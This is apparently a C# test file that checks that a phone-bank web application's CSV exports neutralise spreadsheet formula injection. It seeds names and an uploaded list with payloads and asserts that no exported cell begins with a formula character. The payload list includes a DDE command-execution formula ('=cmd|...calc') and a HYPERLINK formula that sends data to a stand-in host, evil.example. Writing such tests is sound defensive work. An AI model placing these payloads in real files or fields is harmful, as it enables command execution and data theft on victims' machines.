using System.Text;
using Ledgerline.Attacks.Filling;
using Ledgerline.Attacks.Ground;
using Ledgerline.Attacks.Walking;
using Ledgerline.Centres;
using Ledgerline.PhoneBank.ContactLists;
using Ledgerline.Storage;
using Microsoft.Extensions.DependencyInjection;

namespace Ledgerline.Attacks.Injecting;

/// <summary>Formulas in what is typed, in every file that a spreadsheet would open (OWASP ASVS 5.0, 1.2.10).</summary>
public sealed class CsvTests
{
    private const string Mark = "pwn";

    private static readonly string[] Formulas = ["=cmd|'/c calc'!pwn", "+1+pwn", "-1+pwn", "@SUM(pwn)", "\t=pwn()", "\r=pwn()", "=HYPERLINK(\"//evil.example?\"&pwn,\"pwn\")", "\",=pwn(),\"", "\n=pwn()"];

    [Fact]
    public async Task NoCell_OfAnyFile_IsAFormula()
    {
        await using var ground = await TwoCentres.OpenAsync(DatabaseEngine.Sqlite);
        await FillAsync(ground);
        var doors = await Doors.OfAsync(ground.System);
        var (files, marked, wrong) = (0, 0, new List<string>());
        foreach (var line in PermissionTable.Lines.Where(line => line.Door is { Method: "GET", Handler: not "Progress" }))
        {
            foreach (var by in line.With.Any(pair => pair.Name == "By") ? ["Day", "Campaign", "List"] : new[] { "" })
            {
                var visitor = line.Owner is { } owner ? ground.Person('A', owner) : ground.Stranger();
                var answer = await visitor.GetAsync(Knock.Address(line, doors[line.Door], ground.Things).Replace("By=Day", $"By={by}", StringComparison.Ordinal));
                if (answer.Type != "text/csv")
                    continue;
                files++;
                marked += answer.Body.Contains(Mark, StringComparison.Ordinal) ? 1 : 0;
                wrong.AddRange(Cells(answer.Body).Where(cell => cell.Length > 0 && "=+-@\t\r\n".Contains(cell[0], StringComparison.Ordinal)).Select(cell => $"{line.Door} {by}: {cell}"));
            }
        }

        wrong.ShouldBeEmpty();
        files.ShouldBeGreaterThanOrEqualTo(6);
        // The names of campaigns and lists, what a list's rows held, and who is at the centre.
        marked.ShouldBeGreaterThanOrEqualTo(4);
    }

    /// <summary>Campaigns, a list with rows that are not taken, and a coordinator whose names are formulas.</summary>
    private static async Task FillAsync(TwoCentres ground)
    {
        var turn = 0;
        await foreach (var seen in new FormWalk(ground, (_, _, _) => Formulas[turn++ % Formulas.Length], Mark).WalkAsync())
            seen.Answer.Status.ShouldBeLessThan(500);
        var coordinator = ground.Person('A', Role.Coordinator);
        var import = $"/centre/campaigns/{ground.Things["campaign"]}/import";
        using var list = new MultipartFormDataContent
        {
            { new StringContent(await coordinator.TokenAsync(import)), "token" },
            { new StringContent("number,name,note\n" + string.Concat(Formulas.Select(formula => $"{Cell(formula)},{Cell(formula)},{Cell(formula)}\n"))), "List", "=pwn().csv" },
        };
        var preview = (await coordinator.SendAsync(HttpMethod.Post, import, list)).Location;
        var begun = await coordinator.PostAsync(preview, ("token", await coordinator.TokenAsync(preview)), ("HasHeadings", "true"), ("NumberColumn", "1"), ("NameColumn", "2"), ("NoteColumn", "3"));
        ground.Things["list"] = begun.Location.Split('/')[^1];
        await ImportLists.RunAsync(ground.System.Services.GetRequiredService<IServiceScopeFactory>(), default);
        // Somebody of A of whom the trail tells by name.
        var token = await coordinator.TokenAsync("/centre/people");
        var invited = await coordinator.PostAsync("/centre/people?handler=Add", ("token", token), ("Name", "Somebody"), ("Begins", "Calls"));
        var code = invited.Body[(invited.Body.IndexOf("/join/", StringComparison.Ordinal) + 6)..][..14];
        var joining = ground.Stranger();
        (await joining.PostAsync($"/join/{code}", ("token", await joining.TokenAsync($"/join/{code}")), ("Name", "=1+pwn"), ("Password", "correct horse battery"))).Status.ShouldBe(302);
    }

    private static string Cell(string text) => $"\"{text.Replace("\"", "\"\"", StringComparison.Ordinal)}\"";

    /// <summary>RFC 4180, as a spreadsheet reads it.</summary>
    private static IEnumerable<string> Cells(string file)
    {
        var (cell, isQuoted) = (new StringBuilder(), false);
        for (var place = file.StartsWith('\uFEFF') ? 1 : 0; place <= file.Length; place++)
        {
            var letter = place < file.Length ? file[place] : '\n';
            if (letter == '"' && isQuoted && place + 1 < file.Length && file[place + 1] == '"')
                cell.Append(file[place++]);
            else if (letter == '"' && (isQuoted || cell.Length == 0))
                isQuoted = !isQuoted;
            else if (!isQuoted && letter is ',' or '\n' or '\r' && !isQuoted)
            {
                yield return cell.ToString();
                cell.Clear();
            }
            else
                cell.Append(letter);
        }
    }
}
